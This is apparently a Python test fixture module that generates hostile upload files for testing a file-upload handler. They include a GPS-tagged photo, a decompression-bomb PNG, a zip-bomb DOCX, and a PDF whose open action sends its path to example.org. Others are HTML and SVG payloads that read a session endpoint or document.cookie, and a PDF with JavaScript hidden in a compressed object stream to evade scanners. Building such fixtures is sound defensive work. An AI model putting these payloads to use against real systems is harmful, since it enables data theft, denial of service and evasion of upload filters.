"""Files as people and attackers upload them, made in the test: a phone's photo with GPS,
a PDF that runs JavaScript when opened, a zip-bomb DOCX, a picture of 200 megapixels
that packs into a few kB, HTML and SVG dressed as text."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import ExifTags, Image

# Alaverdi monastery, where the phone stood.
LATITUDE = (42.0, 1.0, 55.86)
LONGITUDE = (45.0, 22.0, 38.52)


def photo_with_gps(size: tuple[int, int] = (1600, 1200)) -> bytes:
    """A photo as a phone takes it at the Alaverdi monastery: camera, orientation, GPS in
    its EXIF and again in an XMP packet."""
    width, height = size
    image = Image.new("RGB", size, (180, 120, 60))
    for x in range(0, width, 40):
        for y in range(0, height, 40):
            image.putpixel((x, y), (x % 255, y % 255, 90))
    exif = Image.Exif()
    exif[0x010F] = "Apple"
    exif[0x0110] = "iPhone 15"
    exif[0x0112] = 6  # turned on its side
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[1], gps[2] = "N", LATITUDE
    gps[3], gps[4] = "E", LONGITUDE
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
        b'22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
        b'exif:GPSLatitude="42,1.931N" exif:GPSLongitude="45,22.642E"/></rdf:RDF></x:xmpmeta>'
    )
    output = io.BytesIO()
    image.save(output, "JPEG", exif=exif.tobytes(), xmp=xmp, quality=90)
    return output.getvalue()


def location_in(content: bytes) -> list[str]:
    """What in a picture still says where it was taken (nothing, if it is clean)."""
    found = []
    picture = Image.open(io.BytesIO(content))
    exif = picture.getexif()
    if ExifTags.IFD.GPSInfo in exif or exif.get_ifd(ExifTags.IFD.GPSInfo):
        found.append("EXIF GPS")
    if "xmp" in picture.info or b"GPSLatitude" in content:
        found.append("XMP")
    return found


def huge_png(width: int = 20_000, height: int = 10_000) -> bytes:
    """A one-colour picture of 200 megapixels: a few hundred kB packed, 600 MB decoded."""
    output = io.BytesIO()
    Image.new("1", (width, height)).save(output, "PNG")
    return output.getvalue()


def pdf(*objects: str, trailer: str = "/Root 1 0 R") -> bytes:
    """A PDF with these objects (numbered from 1) and a correct cross-reference table."""
    content = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(content))
        content += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = len(content)
    content += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    content += "".join(f"{offset:010d} 00000 n \n" for offset in offsets).encode()
    content += f"trailer\n<< /Size {len(objects) + 1} {trailer} >>\n".encode()
    content += f"startxref\n{table}\n%%EOF\n".encode()
    return content


PAGES = (
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
)
PLAIN_PDF = pdf("<< /Type /Catalog /Pages 2 0 R >>", *PAGES)
# Opens, and runs JavaScript at once: what a viewer with scripts on does with it.
SCRIPTED_PDF = pdf(
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
    *PAGES,
    "<< /S /JavaScript /JS (app.launchURL\\('https://example.org/?'+this.path\\)) >>",
)


def office(kind: str = "docx", extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal DOCX or XLSX, with more entries if given."""
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            '2006/content-types"/>',
        )
        archive.writestr(main, "<document>ახმეტის მერიის ბრძანება</document>")
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return output.getvalue()


def zip_bomb_docx(megabytes: int = 64) -> bytes:
    """A DOCX whose picture is a run of zeros: it unpacks about a thousand times larger."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        with archive.open("word/media/image1.png", "w") as entry:
            zeros = bytes(1024 * 1024)
            for _ in range(megabytes):
                entry.write(zeros)
    return output.getvalue()


HTML_AS_TEXT = (
    "<!DOCTYPE html><html><body><h1>პასუხი</h1>"
    "<script>fetch('/session').then(r => r.text()).then(alert)</script></body></html>"
).encode()
SVG_AS_CSV = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    "<text>თვე,ტურისტები</text></svg>"
).encode()


def pdf_with_hidden_script() -> bytes:
    """A PDF 1.5 whose link annotation runs JavaScript, packed in a compressed object
    stream: none of its names is in the file's own bytes, only a parser finds it."""
    link = (
        "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
        "/A << /S /JavaScript /JS (app.alert\\('ახმეტა'\\)) >> >>"
    )
    packed = zlib.compress(b"5 0 " + link.encode())
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] >>",
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream",
    ]
    content = b"%PDF-1.5\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(content))
        content += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table_at = len(content)
    # Cross-reference stream: type 1 (offset) for 1–4 and 6, type 2 (in stream 4) for 5.
    rows = [(0, 0, 65535)] + [(1, offset, 0) for offset in offsets] + [(2, 4, 0), (1, table_at, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    content += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    content += b"startxref\n%d\n%%%%EOF\n" % table_at
    return content


def small_photo(
    colour: tuple[int, int, int] = (180, 120, 60), size: tuple[int, int] = (64, 48)
) -> bytes:
    """A small JPEG of one colour: a photo as the library takes it, quick to make."""
    from PIL import Image

    output = io.BytesIO()
    Image.new("RGB", size, colour).save(output, "JPEG", quality=80)
    return output.getvalue()
